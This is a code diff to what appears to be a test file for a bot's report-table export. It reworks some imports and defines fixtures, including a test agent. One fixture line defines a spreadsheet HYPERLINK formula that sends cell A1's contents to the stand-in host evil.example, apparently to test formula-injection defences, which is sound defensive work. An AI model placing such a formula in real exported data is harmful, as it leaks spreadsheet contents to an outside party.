@@ -14,10 +14,12 @@ from bot.reports.table import FORMATS, Table, application_table, as_file
 from conversations import events
 from conversations.application import CARD_FIELDS, EarlierAttempt
 from conversations.erasure import without_form
-from conversations.questions import ASKED
+from conversations.questions import FORM, asked_of
 from conversations.verdict import Decision, Score, Verdict
 from storage.agents import Agent, Role
 from tests.support.forms import AGENT, FAILED, NOW, READ, after, decided, pending, press, until
+
+ASKED = asked_of(FORM)
 
 RAHIM = Agent(id=AGENT, name="Rahim", role=Role.AGENT, language="en", team="Khulna")
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
